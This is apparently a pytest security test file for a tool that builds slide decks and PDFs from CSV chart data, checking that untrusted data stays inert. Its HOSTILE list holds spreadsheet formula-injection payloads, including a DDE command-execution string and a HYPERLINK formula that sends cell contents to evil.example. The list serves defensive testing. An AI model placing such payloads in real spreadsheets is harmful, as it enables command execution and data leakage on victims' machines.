"""Charts under attack: CSV data and its sidecar are someone else's files, read and drawn as such."""

from __future__ import annotations

import io
import re
import subprocess
import zipfile
from pathlib import Path

import pytest
from lxml import etree
from pptx import Presentation

from briefpub import SourceError, parse
from briefpub.deck.slides import render_slides
from briefpub.model.briefing import Briefing

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=1+1}",
    "http://evil.example/track",
    "mailto:a@evil.example",
    "1e5",
]
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _write_project(folder: Path, csv: str, options: str = "", source_extra: str = "") -> Path:
    (folder / "data").mkdir(parents=True, exist_ok=True)
    (folder / "briefpub.toml").write_text("", encoding="utf-8")
    (folder / "data" / "d.csv").write_text(csv, encoding="utf-8", newline="")
    if options:
        (folder / "data" / "d.toml").write_text(options, encoding="utf-8")
    source = folder / "t.txt"
    source.write_text(
        f"Title\n\nWhat?\n\nAnswer: This.\n\n![Data](data/d.csv){source_extra}\n", encoding="utf-8"
    )
    return source


def _briefing(folder: Path, csv: str, options: str = "") -> Briefing:
    source = _write_project(folder, csv, options)
    return parse(source, root=folder, file="t.txt")


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _cells(deck: bytes) -> list[tuple[str, str | None, str | None, bool, str]]:
    """Return each cell of every embedded workbook: reference, type, value, has a formula, its text."""
    found = []
    with zipfile.ZipFile(io.BytesIO(deck)) as package:
        for name in package.namelist():
            if not (name.startswith("ppt/embeddings/") and name.endswith(".xlsx")):
                continue
            with zipfile.ZipFile(io.BytesIO(package.read(name))) as book:
                names = book.namelist()
                assert not any("hyperlink" in n.lower() or "externalLink" in n for n in names), names
                shared: list[str] = []
                if "xl/sharedStrings.xml" in names:
                    strings = etree.fromstring(book.read("xl/sharedStrings.xml"))
                    shared = ["".join(si.itertext()) for si in strings.iter(f"{_MAIN}si")]
                sheet = etree.fromstring(book.read("xl/worksheets/sheet1.xml"))
                assert sheet.find(f"{_MAIN}hyperlinks") is None
                for rels in (n for n in names if n.endswith(".rels") and "worksheets" in n):
                    assert b"hyperlink" not in book.read(rels)
                for cell in sheet.iter(f"{_MAIN}c"):
                    value = cell.findtext(f"{_MAIN}v")
                    kind = cell.get("t")
                    text = shared[int(value)] if kind == "s" and value is not None else ""
                    if kind == "inlineStr":
                        text = "".join(cell.find(f"{_MAIN}is").itertext())
                    has_formula = cell.find(f"{_MAIN}f") is not None
                    found.append((cell.get("r", ""), kind, value, has_formula, text))
    return found


def test_csv_text_is_stored_as_text_in_the_deck_workbook_never_a_formula_or_link(tmp_path: Path) -> None:
    header = ",".join(_quoted(h) for h in ["Label", *HOSTILE[:3]])
    rows = [f"{_quoted(name)},{n},{-n},{n * 1.5}" for n, name in enumerate(HOSTILE, 1)]
    briefing = _briefing(tmp_path, header + "\n" + "\n".join(rows) + "\n")
    cells = _cells(render_slides(briefing))
    assert cells
    texts = {}
    for reference, kind, value, has_formula, text in cells:
        assert not has_formula, reference
        column, row = re.fullmatch(r"([A-Z]+)(\d+)", reference).groups()  # type: ignore[union-attr]
        if column == "A" or row == "1":  # categories and series names: text, cell by cell
            assert kind in ("s", "inlineStr"), (reference, kind)
            texts[reference] = text
        else:  # values: numbers
            assert kind in (None, "n"), (reference, kind)
            assert value is not None
            float(value)
    assert [texts[f"A{n}"] for n in range(2, len(HOSTILE) + 2)] == HOSTILE
    assert [texts[f"{c}1"] for c in "BCD"] == HOSTILE[:3]


def _pdf_text(briefing: Briefing) -> str:
    from briefpub.newsletter.pdf import render_pdf

    pdf = render_pdf(briefing)
    return subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True).stdout.decode()


def test_chart_text_is_never_read_as_mathtext(tmp_path: Path) -> None:
    csv = 'Range,"$x^2$ cost",$y$\n$5 to $10,1,2\n"$\\frac{a$",2,3\n$\\alpha$,3,4\n'
    options = 'x_title = "From $1 to $2"\ny_title = "$\\\\sqrt{2}$ units"\n'
    briefing = _briefing(tmp_path, csv, options)
    text = _pdf_text(briefing)
    for label in ("$5 to $10", "$\\frac{a$", "$\\alpha$", "From $1 to $2", "$\\sqrt{2}$ units", "$x^2$ cost"):
        assert label in text, label
    assert "$y$" in text


def _refused(folder: Path, csv: str, options: str = "") -> list[str]:
    source = _write_project(folder, csv, options)
    with pytest.raises(SourceError) as refused:
        parse(source, root=folder, file="t.txt")
    return [f"{d.file}:{d.line}: {d.message}" for d in refused.value.diagnostics]


def test_a_missing_csv_is_reported_at_the_briefings_line(tmp_path: Path) -> None:
    source = _write_project(tmp_path, "a,b\nx,1\n")
    (tmp_path / "data" / "d.csv").unlink()
    with pytest.raises(SourceError) as refused:
        parse(source, root=tmp_path, file="t.txt")
    assert [str(d) for d in refused.value.diagnostics] == ["t.txt:7: chart data 'data/d.csv' no such file"]


def test_a_sidecar_linked_from_outside_the_project_is_refused(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    secret = tmp_path / "secret.toml"
    secret.write_text('x_title = "the secret"\n', encoding="utf-8")
    source = _write_project(project, "a,b\nx,1\n")
    (project / "data" / "d.toml").symlink_to(secret)
    with pytest.raises(SourceError) as refused:
        parse(source, root=project, file="t.txt")
    [line] = [str(d) for d in refused.value.diagnostics]
    assert line == "t.txt:7: chart options 'data/d.toml' is outside the project folder (a link out of it?)"
    assert "secret" not in line


def test_deeply_nested_sidecar_toml_is_one_line(tmp_path: Path) -> None:
    for nested in ("x = " + "[" * 5000 + "]" * 5000 + "\n", "x = " + "{a=" * 5000 + "1" + "}" * 5000 + "\n"):
        [line] = _refused(tmp_path, "a,b\nx,1\n", nested)
        assert line == "data/d.toml:1: chart data: arrays or tables nested too deeply"


def test_control_characters_in_a_csv_are_dropped_with_a_warning_naming_its_line(tmp_path: Path) -> None:
    csv = 'Year,Out\x07put\n20\x0119,1\n"20\x1b[31m20",2\n2021,3\n'
    options = 'x_title = "Ye\\u0008ar"\nhighlight = "2019"\n'
    briefing = _briefing(tmp_path, csv, options)
    chart = briefing.charts()[0]
    assert chart.categories == ("2019", "20[31m20", "2021")
    assert chart.series[0].name == "Output"
    assert chart.x_title == "Year"
    warnings = [str(w) for w in briefing.warnings]
    assert "data/d.csv:1: chart data: dropped control characters (U+0007)" in warnings
    assert "data/d.csv:2: chart data: dropped control characters (U+0001)" in warnings
    assert "data/d.csv:3: chart data: dropped control characters (U+001B)" in warnings
    assert any(w.startswith("data/d.toml:1: chart data: x_title: dropped control") for w in warnings)
    deck = Presentation(io.BytesIO(render_slides(briefing)))  # it crashed on the control characters
    [drawn] = [shape.chart for slide in deck.slides for shape in slide.shapes if shape.has_chart]
    assert list(drawn.plots[0].categories) == ["2019", "20[31m20", "2021"]
    assert "2021" in _pdf_text(briefing)  # the chart is in the PDF


def test_long_labels_are_shortened_with_a_warning(tmp_path: Path) -> None:
    from briefpub.reader.charts import MAX_LABEL

    name, label = "S" * 5000, "C" * 150
    csv = f"Label,{name},Two\nshort,1,2\n{label},3,4\n{'D' * 10_000},5,6\n"
    briefing = _briefing(tmp_path, csv, f'highlight = "{label}"\n')
    chart = briefing.charts()[0]
    assert [len(c) for c in chart.categories] == [5, MAX_LABEL, MAX_LABEL]
    assert chart.categories[1].endswith("…")
    assert chart.series[0].name == "S" * (MAX_LABEL - 1) + "…"
    assert chart.highlight == chart.categories[1]
    warnings = [str(w) for w in briefing.warnings]
    assert f"data/d.csv:1: chart data: names longer than {MAX_LABEL} characters are shortened" in warnings
    assert (
        f"data/d.csv:3: chart data: 2 labels longer than {MAX_LABEL} characters are shortened (from here)"
        in warnings
    )


def test_drawing_charts_has_a_deadline_and_says_so_in_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from briefpub.errors import RenderError
    from briefpub.newsletter import charts
    from briefpub.newsletter.pdf import render_pdf

    rows = "".join(f"{y},{y % 7},{y % 5}\n" for y in range(1900, 2000))
    briefing = _briefing(tmp_path, "Year,A,B\n" + rows)
    monkeypatch.setattr(charts, "DRAW_SECONDS", 1e-4)
    charts.drawn.cache_clear()
    with pytest.raises(RenderError) as refused:
        render_pdf(briefing)
    [line] = [str(d) for d in refused.value.diagnostics]
    said = r".*t\.txt:7: drawing the charts took longer than 0\.0001 s; chart 'data/d\.csv' was drawing"
    assert re.fullmatch(said, line), line
